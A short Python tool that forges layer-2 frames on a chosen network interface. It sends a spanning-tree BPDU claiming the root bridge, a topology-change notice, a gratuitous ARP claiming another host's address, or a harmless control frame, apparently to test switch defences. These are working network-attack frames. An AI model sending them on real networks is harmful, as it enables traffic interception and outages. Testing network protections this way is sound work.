"""Sends one kind of hostile frame: forge.py NIC KIND [ADDRESS]; KIND is bpdu, topology-change, arp (claims ADDRESS)
or innocent."""

import socket
import struct
import sys

BROADCAST = b"\xff" * 6
LOCAL_EXPERIMENT = 0x88B6


def bpdu(source: bytes, _: str) -> bytes:
    """IEEE 802.1D, 9.3.1: this bridge would be the root."""
    body = bytes.fromhex("4242030000000000") + bytes(8) + bytes(4) + bytes(8) + bytes.fromhex("8001000014000200 0f00")
    return bytes.fromhex("0180c2000000") + source + struct.pack("!H", len(body)) + body


def topology_change(source: bytes, _: str) -> bytes:
    """IEEE 802.1D, 9.3.2: the tree has changed."""
    return (bytes.fromhex("0180c2000000") + source + struct.pack("!H", 7) + bytes.fromhex("42420300000080")).ljust(
        60, b"\0")


def arp(source: bytes, address: str) -> bytes:
    """A gratuitous announcement of somebody's address (RFC 5227, section 3)."""
    claimed = socket.inet_aton(address)
    return (BROADCAST + source + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + source + claimed + bytes(6) +
            claimed).ljust(60, b"\0")


def innocent(source: bytes, _: str) -> bytes:
    return (BROADCAST + source + struct.pack("!H", LOCAL_EXPERIMENT)).ljust(60, b"\0")


KINDS = {"bpdu": bpdu, "topology-change": topology_change, "arp": arp, "innocent": innocent}


def main(nic: str, kind: str, address: str = "") -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((nic, 0))
        source = out.getsockname()[4]
        for _ in range(5):
            out.send(KINDS[kind](source, address))


if __name__ == "__main__":
    main(*sys.argv[1:])
